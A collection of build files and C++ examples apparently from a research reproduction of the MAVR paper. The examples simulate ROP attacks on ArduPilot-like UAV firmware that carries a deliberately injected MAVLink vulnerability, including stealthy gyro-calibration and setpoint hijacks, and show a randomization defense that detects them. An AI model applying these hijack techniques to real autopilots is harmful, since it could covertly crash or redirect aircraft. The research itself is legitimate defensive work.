  include(CMakeFiles/bruteforce.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
