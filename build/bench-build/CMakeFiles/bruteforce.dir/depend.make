# Empty dependencies file for bruteforce.
# This may be replaced when dependencies are built.
