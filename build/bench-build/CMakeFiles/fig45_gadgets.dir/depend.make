# Empty dependencies file for fig45_gadgets.
# This may be replaced when dependencies are built.
