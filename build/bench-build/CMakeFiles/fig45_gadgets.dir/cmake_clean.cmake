file(REMOVE_RECURSE
  "../bench/fig45_gadgets"
  "../bench/fig45_gadgets.pdb"
  "CMakeFiles/fig45_gadgets.dir/fig45_gadgets.cpp.o"
  "CMakeFiles/fig45_gadgets.dir/fig45_gadgets.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig45_gadgets.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
