file(REMOVE_RECURSE
  "../bench/fig2_mavlink"
  "../bench/fig2_mavlink.pdb"
  "CMakeFiles/fig2_mavlink.dir/fig2_mavlink.cpp.o"
  "CMakeFiles/fig2_mavlink.dir/fig2_mavlink.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig2_mavlink.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
