# Empty dependencies file for fig2_mavlink.
# This may be replaced when dependencies are built.
