file(REMOVE_RECURSE
  "../bench/effectiveness"
  "../bench/effectiveness.pdb"
  "CMakeFiles/effectiveness.dir/effectiveness.cpp.o"
  "CMakeFiles/effectiveness.dir/effectiveness.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/effectiveness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
