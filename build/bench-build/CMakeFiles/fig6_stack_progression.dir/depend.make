# Empty dependencies file for fig6_stack_progression.
# This may be replaced when dependencies are built.
