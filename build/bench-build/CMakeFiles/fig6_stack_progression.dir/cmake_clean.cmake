file(REMOVE_RECURSE
  "../bench/fig6_stack_progression"
  "../bench/fig6_stack_progression.pdb"
  "CMakeFiles/fig6_stack_progression.dir/fig6_stack_progression.cpp.o"
  "CMakeFiles/fig6_stack_progression.dir/fig6_stack_progression.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig6_stack_progression.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
