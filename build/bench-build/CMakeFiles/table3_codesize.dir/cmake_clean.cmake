file(REMOVE_RECURSE
  "../bench/table3_codesize"
  "../bench/table3_codesize.pdb"
  "CMakeFiles/table3_codesize.dir/table3_codesize.cpp.o"
  "CMakeFiles/table3_codesize.dir/table3_codesize.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table3_codesize.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
