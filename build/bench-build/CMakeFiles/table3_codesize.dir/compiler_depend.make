# Empty compiler generated dependencies file for table3_codesize.
# This may be replaced when dependencies are built.
