
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/ablation_padding.cpp" "bench-build/CMakeFiles/ablation_padding.dir/ablation_padding.cpp.o" "gcc" "bench-build/CMakeFiles/ablation_padding.dir/ablation_padding.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/attack/CMakeFiles/mavr_attack.dir/DependInfo.cmake"
  "/root/repo/build/src/defense/CMakeFiles/mavr_defense.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/mavr_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/firmware/CMakeFiles/mavr_firmware.dir/DependInfo.cmake"
  "/root/repo/build/src/toolchain/CMakeFiles/mavr_toolchain.dir/DependInfo.cmake"
  "/root/repo/build/src/mavlink/CMakeFiles/mavr_mavlink.dir/DependInfo.cmake"
  "/root/repo/build/src/avr/CMakeFiles/mavr_avr.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/mavr_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
