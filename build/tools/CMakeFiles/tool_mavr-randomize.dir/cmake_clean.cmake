file(REMOVE_RECURSE
  "CMakeFiles/tool_mavr-randomize.dir/mavr_randomize.cpp.o"
  "CMakeFiles/tool_mavr-randomize.dir/mavr_randomize.cpp.o.d"
  "mavr-randomize"
  "mavr-randomize.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/tool_mavr-randomize.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
