# Empty dependencies file for tool_mavr-randomize.
# This may be replaced when dependencies are built.
