file(REMOVE_RECURSE
  "CMakeFiles/tool_mavr-objdump.dir/mavr_objdump.cpp.o"
  "CMakeFiles/tool_mavr-objdump.dir/mavr_objdump.cpp.o.d"
  "mavr-objdump"
  "mavr-objdump.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/tool_mavr-objdump.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
