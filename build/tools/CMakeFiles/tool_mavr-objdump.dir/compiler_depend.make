# Empty compiler generated dependencies file for tool_mavr-objdump.
# This may be replaced when dependencies are built.
