# Empty compiler generated dependencies file for tool_mavr-sitl.
# This may be replaced when dependencies are built.
