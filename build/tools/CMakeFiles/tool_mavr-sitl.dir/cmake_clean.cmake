file(REMOVE_RECURSE
  "CMakeFiles/tool_mavr-sitl.dir/mavr_sitl.cpp.o"
  "CMakeFiles/tool_mavr-sitl.dir/mavr_sitl.cpp.o.d"
  "mavr-sitl"
  "mavr-sitl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/tool_mavr-sitl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
