# Empty dependencies file for tool_mavr-build.
# This may be replaced when dependencies are built.
