file(REMOVE_RECURSE
  "CMakeFiles/tool_mavr-build.dir/mavr_build.cpp.o"
  "CMakeFiles/tool_mavr-build.dir/mavr_build.cpp.o.d"
  "mavr-build"
  "mavr-build.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/tool_mavr-build.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
