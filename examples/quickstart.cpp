// Quickstart: the MAVR reproduction in ~60 lines.
//
// Generates an autopilot firmware, boots it on the simulated APM board,
// exchanges MAVLink with it, then deploys the full MAVR defense platform
// around it. Start here, then read examples/stealthy_attack.cpp and
// examples/mavr_defense.cpp.
#include <cstdio>

#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

int main() {
  using namespace mavr;

  // 1. Build an autopilot application with the MAVR toolchain flags
  //    (--no-relax, -mno-call-prologues — see paper §VI-B1).
  firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/false),
      toolchain::ToolchainOptions::mavr());
  std::printf("built %s: %u bytes, %zu functions\n", fw.profile.name.c_str(),
              fw.image.size_bytes(), fw.image.function_count());

  // 2. Boot it on a simulated ArduPilot Mega board.
  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.set_gyro(0, 120);  // rolling right at 7.5 deg/s
  board.run_cycles(2'000'000);
  std::printf("board: %s, servo0=%u (counteracting the roll)\n",
              board.cpu().state() == avr::CpuState::Running ? "flying"
                                                            : "down",
              board.servo(0).value());

  // 3. Talk MAVLink to it like a ground station.
  sim::GroundStation gcs(board);
  gcs.send_heartbeat();
  board.run_cycles(2'000'000);
  gcs.poll();
  std::printf("telemetry: %llu packets, xgyro=%d, %llu garbage bytes\n",
              static_cast<unsigned long long>(gcs.packets_received()),
              gcs.last_imu() ? gcs.last_imu()->xgyro : -1,
              static_cast<unsigned long long>(gcs.garbage_bytes()));

  // 4. Deploy the MAVR platform: preprocess symbols into the HEX, store
  //    it on the external flash, let the master processor randomize and
  //    program the application processor (paper §V, §VI).
  defense::ExternalFlash flash;
  sim::Board protected_board;
  defense::MasterConfig cfg;
  defense::MasterProcessor master(flash, protected_board, cfg);
  master.host_upload_hex(defense::preprocess_to_hex(fw.image));
  master.boot();
  protected_board.run_cycles(2'000'000);
  std::printf("MAVR: randomized %zu function blocks in %.0f ms (startup), "
              "board %s, fuse %s\n",
              master.symbol_count(), master.last_startup()->total_ms,
              protected_board.cpu().state() == avr::CpuState::Running
                  ? "flying"
                  : "down",
              protected_board.readout_protected() ? "locked" : "open");
  return 0;
}
