// The attacker's story (paper §IV): traditional ROP vs. stealthy ROP
// against an unprotected UAV, observed from the operator's seat.
//
// Scenario: the UAV flies a stabilized course in gusty air; the operator
// watches telemetry. A compromised ground station delivers one PARAM_SET
// packet per attack.
//
//  * ROP V1 rewrites the gyro calibration but smashes the stack — the
//    control loop dies, telemetry stops, and the airframe departs
//    controlled flight within seconds. Detectable and self-defeating.
//  * ROP V2 performs the same write and then repairs the stack — the
//    autopilot keeps flying and telemetry never hiccups, but every gyro
//    report (and the control loop's idea of "level") is now silently
//    biased by the attacker.
#include <cstdio>

#include "attack/attacks.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/flight.hpp"
#include "sim/ground.hpp"

namespace {

using namespace mavr;

constexpr double kDt = 0.01;                  // 10 ms physics step
constexpr std::uint64_t kDtCycles = 160'000;  // at 16 MHz

struct Cockpit {
  sim::Board board;
  sim::FlightModel flight{board};
  sim::GroundStation gcs{board};

  void fly(double seconds) {
    for (int i = 0; i < seconds / kDt; ++i) {
      flight.step(kDt);
      board.run_cycles(kDtCycles);
      gcs.poll();
    }
  }

  void report(const char* phase) {
    std::printf("  %-28s roll=%+7.1f deg  telemetry xgyro=%+6d  "
                "packets=%5llu  link=%s  board=%s\n",
                phase, flight.state().roll_deg,
                gcs.last_imu() ? gcs.last_imu()->xgyro : 0,
                static_cast<unsigned long long>(gcs.packets_received()),
                gcs.garbage_bytes() == 0 ? "clean" : "GARBAGE",
                board.cpu().state() == avr::CpuState::Running
                    ? (flight.state().departed ? "flying (DEPARTED!)"
                                               : "flying")
                    : "CRASHED");
  }
};

}  // namespace

int main() {
  // The attacker's offline work: stock binary -> gadgets + frame layout.
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  const attack::AttackPlan plan = attack::analyze(fw.image);
  std::printf("attacker analysis: %u gadgets (%u stk_move, %u write_mem), "
              "vulnerable frame at 0x%04X, target g_gyro_cal at 0x%04X\n\n",
              plan.census.total(), plan.census.stk_move_gadgets,
              plan.census.write_mem_gadgets, plan.frame.buffer_addr,
              plan.gyro_cal_addr);
  // Skew the roll-gyro calibration by +1024 counts = +64 deg/s phantom
  // roll — the autopilot will "correct" a roll that isn't happening.
  const attack::Write3 skew{plan.gyro_cal_addr, {0x00, 0x04, 0x00}};

  std::printf("=== ROP V1: traditional attack (paper §IV-C) ===\n");
  {
    Cockpit uav;
    uav.board.flash_image(fw.image.bytes);
    uav.fly(2.0);
    uav.report("cruise");
    uav.gcs.send_raw_param_set(plan.builder().v1_payload(skew));
    uav.fly(1.0);
    uav.report("attack delivered");
    uav.fly(4.0);
    uav.report("4 s later");
    std::printf("  -> the smashed stack killed the control loop; the "
                "operator sees the link die.\n\n");
  }

  std::printf("=== ROP V2: stealthy attack with clean return (§IV-D) ===\n");
  {
    Cockpit uav;
    uav.board.flash_image(fw.image.bytes);
    uav.fly(2.0);
    uav.report("cruise");
    uav.gcs.send_raw_param_set(plan.builder().v2_payload({skew}));
    uav.fly(1.0);
    uav.report("attack delivered");
    uav.fly(4.0);
    uav.report("4 s later");
    std::printf("  -> telemetry never stopped, no garbage, yet the gyro "
                "stream is biased and the\n     autopilot is flying a "
                "phantom correction. The operator has no idea.\n");
  }
  return 0;
}
