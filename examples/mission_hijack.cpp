// End-to-end hijack scenario using the trampoline attack (paper §IV-E):
// the attacker needs more state rewritten than one 96-byte buffer can
// express, so the payload is staged in free SRAM through dozens of
// clean-return packets and then executed in one shot — rewriting the
// flight setpoint *and* the gyro calibration while the operator's
// telemetry stays perfectly healthy.
#include <cstdio>

#include "attack/attacks.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/flight.hpp"
#include "sim/ground.hpp"

int main() {
  using namespace mavr;

  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  const attack::AttackPlan plan = attack::analyze(fw.image);

  sim::Board board;
  board.flash_image(fw.image.bytes);
  sim::FlightModel flight(board);
  sim::GroundStation gcs(board);

  const auto fly = [&](double seconds) {
    for (int i = 0; i < seconds / 0.01; ++i) {
      flight.step(0.01);
      board.run_cycles(160'000);
      gcs.poll();
    }
  };

  fly(2.0);
  std::printf("cruise:  roll %+6.1f deg, %llu telemetry packets, link "
              "clean\n",
              flight.state().roll_deg,
              static_cast<unsigned long long>(gcs.packets_received()));

  // The hijack payload: 12 bytes across g_gyro_cal + g_setpoint — a
  // phantom-rate bias plus a new commanded roll rate. Four write_mem
  // rounds exceed one packet's capacity, so V3 stages them.
  const toolchain::DataSymbol* cal = fw.image.find_data("g_gyro_cal");
  const std::vector<attack::Write3> hijack = {
      {static_cast<std::uint16_t>(cal->ram_addr + 0), {0x00, 0x02, 0x00}},
      {static_cast<std::uint16_t>(cal->ram_addr + 3), {0x00, 0x00, 0x00}},
      {static_cast<std::uint16_t>(cal->ram_addr + 6), {0x80, 0x00, 0x00}},
      {static_cast<std::uint16_t>(cal->ram_addr + 9), {0x00, 0x00, 0x00}},
  };
  const auto packets = plan.builder().v3_payloads(0x1B00, hijack);
  std::printf("attack:  staging a %zu-packet trampoline chain "
              "(capacity/packet: %zu write rounds)...\n",
              packets.size(), plan.builder().v2_write_capacity());

  std::size_t sent = 0;
  for (const auto& packet : packets) {
    gcs.send_raw_param_set(packet);
    fly(0.15);  // each staging packet clean-returns mid-flight
    ++sent;
    if (board.cpu().state() != avr::CpuState::Running) {
      std::printf("  board died at packet %zu (should not happen)\n", sent);
      return 1;
    }
  }
  std::printf("attack:  %zu packets delivered, every one returned "
              "cleanly, link still clean=%s\n",
              sent, gcs.garbage_bytes() == 0 ? "yes" : "no");

  fly(4.0);
  std::printf("hijack:  roll %+6.1f deg and diverging — setpoint and "
              "calibration rewritten\n",
              flight.state().roll_deg);
  std::printf("victim:  %s, telemetry packets %llu, garbage bytes %llu\n",
              board.cpu().state() == avr::CpuState::Running
                  ? (flight.state().departed
                         ? "autopilot alive, airframe departing"
                         : "flying the attacker's course")
                  : "crashed",
              static_cast<unsigned long long>(gcs.packets_received()),
              static_cast<unsigned long long>(gcs.garbage_bytes()));
  std::printf("\nthe ground station saw an uninterrupted, checksum-valid "
              "telemetry stream the\nentire time — the paper's definition "
              "of a stealthy hijack.\n");
  return 0;
}
