// The defender's story (paper §V–§VII): the same stealthy attack thrown at
// a MAVR-protected UAV.
//
// Pipeline shown end to end:
//   host preprocessing -> external flash -> master processor randomizes
//   the function layout and programs the application processor through
//   its bootloader (readout fuse set) -> attacker's stock-layout payload
//   jumps into the wrong code -> feed line goes quiet -> master detects
//   the failed attack, re-randomizes and reflashes mid-flight.
#include <cstdio>

#include "attack/attacks.hpp"
#include "defense/bruteforce.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

int main() {
  using namespace mavr;

  // The deployment target: the vulnerable test application (the defense
  // does not know about the vulnerability; it randomizes everything).
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());

  // --- Deploy the MAVR platform ------------------------------------------
  defense::ExternalFlash flash;
  sim::Board board;
  defense::MasterConfig cfg;
  cfg.seed = 20'26;
  cfg.watchdog_timeout_cycles = 400'000;  // 25 ms of feed silence
  defense::MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(defense::preprocess_to_hex(fw.image));
  master.boot();
  std::printf("deployed: %zu function blocks shuffled (%.0f bits of "
              "entropy), programmed in %.0f ms, readout fuse %s\n",
              master.symbol_count(),
              defense::entropy_bits(
                  static_cast<std::uint32_t>(master.symbol_count())),
              master.last_startup()->total_ms,
              board.readout_protected() ? "set" : "clear");

  board.run_cycles(500'000);
  std::printf("application: %s, feed line active\n\n",
              board.cpu().state() == avr::CpuState::Running ? "flying"
                                                            : "down");

  // --- The attack (crafted against the public stock binary) ----------------
  const attack::AttackPlan plan = attack::analyze(fw.image);
  sim::GroundStation gcs(board);
  const attack::Write3 skew{plan.gyro_cal_addr, {0x00, 0x04, 0x00}};
  std::printf("attacker: sending the stealthy payload that owns the stock "
              "binary...\n");
  gcs.send_raw_param_set(plan.builder().v2_payload({skew}));

  int detections = 0;
  for (int slice = 0; slice < 80; ++slice) {
    board.run_cycles(100'000);
    if (master.service()) {
      ++detections;
      std::printf("master: feed line quiet -> FAILED ATTACK DETECTED, "
                  "re-randomizing and reflashing (randomization #%u)\n",
                  master.randomizations());
    }
  }
  const std::uint8_t cal_hi = board.cpu().data().raw(plan.gyro_cal_addr + 1);
  std::printf("\noutcome: attacker write %s, %d detection(s), application "
              "%s\n",
              cal_hi == 0x04 ? "LANDED (!)" : "missed",
              detections,
              board.cpu().state() == avr::CpuState::Running
                  ? "recovered and flying"
                  : "down");

  // --- Why brute force is hopeless (paper §V-D) -----------------------------
  const double bits = defense::entropy_bits(
      static_cast<std::uint32_t>(master.symbol_count()));
  std::printf("\nbrute force against MAVR: expected 2^%.0f attempts — and "
              "every failed attempt\ntriggers a fresh permutation, so "
              "nothing is ever learned.\n",
              bits);
  return 0;
}
