// Shared helpers for the reproduction benches: each binary regenerates one
// table or figure of the paper and prints it alongside the paper's
// published values so deviations are visible at a glance.
#pragma once

#include <cstdio>
#include <list>
#include <string>
#include <vector>

#include "firmware/generator.hpp"
#include "firmware/profile.hpp"

namespace mavr::bench {

inline void heading(const std::string& title) {
  std::printf("\n================================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("================================================================\n");
}

inline std::vector<firmware::AppProfile> paper_profiles() {
  return {firmware::arduplane(), firmware::arducopter(),
          firmware::ardurover()};
}

/// Cached MAVR-flags build of each paper profile (generation is ~50 ms but
/// several benches need all three).
inline const firmware::Firmware& built(const firmware::AppProfile& profile) {
  static std::list<firmware::Firmware> cache;  // stable references
  for (const firmware::Firmware& fw : cache) {
    if (fw.profile.name == profile.name &&
        fw.profile.vulnerable == profile.vulnerable) {
      return fw;
    }
  }
  cache.push_back(
      firmware::generate(profile, toolchain::ToolchainOptions::mavr()));
  return cache.back();
}

}  // namespace mavr::bench
