// Ablation for the paper's §VI-B1 call-prologue discussion: with
// -mcall-prologues, most register-save/restore gadget material collapses
// into one shared blob with hundreds of inbound references — a
// location-leak risk — and the LDI-encoded continuation pointers defeat
// the patcher. MAVR therefore rebuilds everything with
// -mno-call-prologues.
#include <cstdio>

#include "attack/gadgets.hpp"
#include "avr/decode.hpp"
#include "bench_util.hpp"
#include "support/bytes.hpp"

namespace {

// Counts JMP/CALL instructions targeting [lo, hi) byte addresses.
std::uint32_t count_refs(const mavr::toolchain::Image& image,
                         std::uint32_t lo, std::uint32_t hi) {
  std::uint32_t refs = 0;
  std::uint32_t pos = 0;
  while (pos + 2 <= image.text_end) {
    const mavr::avr::Instr in = mavr::avr::decode(
        image.word_at(pos),
        pos + 2 < image.text_end ? image.word_at(pos + 2) : 0);
    if (in.op == mavr::avr::Op::Jmp || in.op == mavr::avr::Op::Call) {
      const std::uint32_t target = static_cast<std::uint32_t>(in.target) * 2;
      if (target >= lo && target < hi) ++refs;
    }
    pos += in.size_words * 2;
  }
  return refs;
}

}  // namespace

int main() {
  using namespace mavr;
  bench::heading("Ablation — call-prologue consolidation (paper §VI-B1)");

  // ArduPlane-scale profile with a realistic share of register-heavy
  // functions (the ones -mcall-prologues consolidates). Size calibration
  // is disabled: this build exists only to compare gadget structure.
  firmware::AppProfile profile = firmware::arduplane(true);
  profile.canonical_save_fns = 110;
  profile.target_image_bytes = 0;
  const firmware::Firmware mavr_fw =
      firmware::generate(profile, toolchain::ToolchainOptions::mavr());
  toolchain::ToolchainOptions prologued = toolchain::ToolchainOptions::mavr();
  prologued.call_prologues = true;
  const firmware::Firmware stock_fw = firmware::generate(profile, prologued);

  attack::GadgetFinder mavr_scan(mavr_fw.image);
  attack::GadgetFinder stock_scan(stock_fw.image);

  std::printf("%-34s %-18s %-18s\n", "", "-mcall-prologues",
              "-mno-call-prologues");
  std::printf("%-34s %-18u %-18u\n", "pop-chain gadgets (>=4 pops)",
              stock_scan.census().pop_chain_gadgets,
              mavr_scan.census().pop_chain_gadgets);
  std::printf("%-34s %-18zu %-18zu\n", "LDI-encoded code pointers",
              stock_fw.image.ldi_code_pointers.size(),
              mavr_fw.image.ldi_code_pointers.size());

  const toolchain::Symbol* blob =
      stock_fw.image.find("__epilogue_restores__");
  if (blob != nullptr) {
    const std::uint32_t refs =
        count_refs(stock_fw.image, blob->addr, blob->addr + blob->size);
    std::printf("%-34s %-18u %-18s\n",
                "references to the shared blob", refs, "n/a");
    std::printf("\nthe consolidated blob at 0x%X concentrates the "
                "restore-gadget material and is\nreferenced %u times — the "
                "\"very useful gadget ... hundreds of references\" the\n"
                "paper warns leaks its location. The LDI code pointers "
                "additionally make the\nimage unrandomizable, so MAVR "
                "refuses it (see Randomizer.RefusesCallPrologueBuilds).\n",
                blob->addr, refs);
  }
  return 0;
}
