// Regenerates the paper's effectiveness evaluation (§VII-A): gadget census
// on the vulnerable test application, the stealthy attack succeeding
// against the stock binary, and the same attack failing against the
// MAVR-randomized binary with the master detecting and reflashing.
#include <cstdio>

#include "attack/attacks.hpp"
#include "bench_util.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

int main() {
  using namespace mavr;
  bench::heading("Effectiveness (paper §VII-A)");

  // The paper's test application: ArduPlane with the injected MAVLink
  // length-check vulnerability.
  const firmware::Firmware& fw = bench::built(firmware::arduplane(true));
  const attack::AttackPlan plan = attack::analyze(fw.image);

  std::printf("test application: %s (%zu functions, %u bytes)\n",
              fw.profile.name.c_str(), fw.image.function_count(),
              fw.image.size_bytes());
  std::printf("gadgets found: %u  (paper: 953)\n", plan.census.total());
  std::printf("  ret-terminated sequences: %u\n", plan.census.ret_gadgets);
  std::printf("  stk_move gadgets:         %u\n",
              plan.census.stk_move_gadgets);
  std::printf("  write_mem gadgets:        %u\n",
              plan.census.write_mem_gadgets);

  // --- Stealthy attack vs. the stock binary --------------------------------
  {
    sim::Board board;
    board.flash_image(fw.image.bytes);
    board.run_cycles(400'000);
    sim::GroundStation gcs(board);
    const attack::Write3 write{plan.gyro_cal_addr, {0xD1, 0x07, 0x00}};
    gcs.send_raw_param_set(plan.builder().v2_payload({write}));
    board.run_cycles(6'000'000);
    const bool wrote =
        board.cpu().data().raw(plan.gyro_cal_addr) == 0xD1 &&
        board.cpu().data().raw(plan.gyro_cal_addr + 1) == 0x07;
    const bool alive = board.cpu().state() == avr::CpuState::Running;
    std::printf("\nstock binary:      stealthy ROP attack %s "
                "(sensor write %s, victim %s)\n",
                wrote && alive ? "SUCCEEDS" : "fails",
                wrote ? "landed" : "missed",
                alive ? "keeps flying" : "crashed");
  }

  // --- Same payload vs. the MAVR-randomized binary --------------------------
  {
    defense::ExternalFlash flash;
    sim::Board board;
    defense::MasterConfig cfg;
    cfg.seed = 99;
    cfg.watchdog_timeout_cycles = 400'000;
    defense::MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(defense::preprocess_to_hex(fw.image));
    master.boot();
    board.run_cycles(400'000);

    sim::GroundStation gcs(board);
    const attack::Write3 write{plan.gyro_cal_addr, {0xD1, 0x07, 0x00}};

    // The attacker brute-forces: every attempt guesses a different gadget
    // layout (all derived from the *stale* stock binary, §V-D). Each guess
    // jumps into the wrong code; sooner or later the garbage execution
    // wedges the board and the master's feed-line watchdog catches it,
    // triggering an immediate re-randomization.
    attack::GadgetFinder finder(fw.image);
    std::vector<attack::StkMoveGadget> usable;
    for (const attack::StkMoveGadget& g : finder.stk_moves()) {
      if (g.pops.size() <= 3) usable.push_back(g);  // chain must fit
    }
    int detections = 0;
    int attempts = 0;
    bool wrote = false;
    for (attempts = 1; attempts <= 16; ++attempts) {
      attack::AttackPlan guess = plan;
      guess.stk = usable[(attempts * 37) % usable.size()];
      gcs.send_raw_param_set(guess.builder().v2_payload({write}));
      for (int slice = 0; slice < 60; ++slice) {
        board.run_cycles(100'000);
        if (master.service()) ++detections;
      }
      wrote = board.cpu().data().raw(plan.gyro_cal_addr) == 0xD1 &&
              board.cpu().data().raw(plan.gyro_cal_addr + 1) == 0x07;
      if (wrote || detections > 0) break;
    }
    std::printf("randomized binary: stealthy ROP attack %s after %d "
                "attempt%s (MAVR detected %d failed attack%s and "
                "re-randomized)\n",
                wrote ? "SUCCEEDED (!)" : "FAILS", attempts,
                attempts == 1 ? "" : "s", detections,
                detections == 1 ? "" : "s");
    std::printf("post-recovery:     application processor %s, %u "
                "randomizations performed\n",
                board.cpu().state() == avr::CpuState::Running
                    ? "running normally"
                    : "down",
                master.randomizations());
  }
  return 0;
}
