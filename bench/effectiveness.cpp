// Regenerates the paper's effectiveness evaluation (§VII-A): gadget census
// on the vulnerable test application, the stealthy attack succeeding
// against the stock binary, and the same attack failing against the
// MAVR-randomized binary with the master detecting and reflashing.
#include <cstdio>

#include "attack/attacks.hpp"
#include "bench_util.hpp"
#include "campaign/scenarios.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

int main() {
  using namespace mavr;
  bench::heading("Effectiveness (paper §VII-A)");

  // The paper's test application: ArduPlane with the injected MAVLink
  // length-check vulnerability.
  const firmware::Firmware& fw = bench::built(firmware::arduplane(true));
  const attack::AttackPlan plan = attack::analyze(fw.image);

  std::printf("test application: %s (%zu functions, %u bytes)\n",
              fw.profile.name.c_str(), fw.image.function_count(),
              fw.image.size_bytes());
  std::printf("gadgets found: %u  (paper: 953)\n", plan.census.total());
  std::printf("  ret-terminated sequences: %u\n", plan.census.ret_gadgets);
  std::printf("  stk_move gadgets:         %u\n",
              plan.census.stk_move_gadgets);
  std::printf("  write_mem gadgets:        %u\n",
              plan.census.write_mem_gadgets);

  // --- Stealthy attack vs. the stock binary --------------------------------
  {
    sim::Board board;
    board.flash_image(fw.image.bytes);
    board.run_cycles(400'000);
    sim::GroundStation gcs(board);
    const attack::Write3 write{plan.gyro_cal_addr, {0xD1, 0x07, 0x00}};
    gcs.send_raw_param_set(plan.builder().v2_payload({write}));
    board.run_cycles(6'000'000);
    const bool wrote =
        board.cpu().data().raw(plan.gyro_cal_addr) == 0xD1 &&
        board.cpu().data().raw(plan.gyro_cal_addr + 1) == 0x07;
    const bool alive = board.cpu().state() == avr::CpuState::Running;
    std::printf("\nstock binary:      stealthy ROP attack %s "
                "(sensor write %s, victim %s)\n",
                wrote && alive ? "SUCCEEDS" : "fails",
                wrote ? "landed" : "missed",
                alive ? "keeps flying" : "crashed");
  }

  // --- Same payload vs. MAVR-randomized binaries, at population scale --------
  {
    // The attacker brute-forces: every trial is an independent board behind
    // a freshly drawn permutation, attacked with a gadget guess derived
    // from the *stale* stock binary (§V-D). Each guess jumps into the wrong
    // code; the garbage execution wedges the board and the master's
    // feed-line watchdog catches it, triggering re-randomization. The
    // campaign engine runs the fleet in parallel with bit-identical
    // aggregation at any jobs count.
    campaign::SimFixture fixture;
    fixture.fw = fw;
    fixture.plan = plan;
    fixture.container_hex = defense::preprocess_to_hex(fw.image);
    attack::GadgetFinder finder(fw.image);
    for (const attack::StkMoveGadget& g : finder.stk_moves()) {
      if (g.pops.size() <= 3) fixture.usable_stk.push_back(g);
    }

    campaign::CampaignConfig config;
    config.scenario = campaign::Scenario::kV2;
    config.trials = 8;
    config.jobs = 2;
    config.seed = 99;
    config.watchdog_timeout_cycles = 400'000;
    const campaign::CampaignStats stats =
        campaign::run_campaign(config, fixture);

    const std::uint64_t survived =
        stats.trials - stats.successes - stats.detections;
    std::printf("randomized fleet:  stealthy ROP attack vs. %llu "
                "independently randomized boards:\n"
                "                   %llu succeeded, %llu detected by the "
                "feed-line watchdog and re-randomized,\n"
                "                   %llu shrugged the wild return off and "
                "kept flying (write still missed)\n",
                static_cast<unsigned long long>(stats.trials),
                static_cast<unsigned long long>(stats.successes),
                static_cast<unsigned long long>(stats.detections),
                static_cast<unsigned long long>(survived));
    std::printf("                   mean %.0f cycles from boot to verdict "
                "per board\n",
                stats.mean_cycles);
  }
  return 0;
}
