// Execution-core throughput: retired MIPS on the test application and the
// arduplane flight firmware under three configurations — the superblock
// threaded-code tier (the untraced default), the plain interpreter
// (--exec-tier off equivalent), and the traced interpreter (no-op hooks,
// which bypass the tier entirely).
//
// This is the single-core number the campaign engine's trials/s scales
// from, and the headline metric of the execution architecture
// (DESIGN.md §11/§16): dense-table I/O dispatch, event-driven peripheral
// clocking, register-resident hot counters, and pre-decoded superblocks
// with pair fusion. Each configuration reports the best of three
// repetitions so a scheduler hiccup does not masquerade as a regression.
//
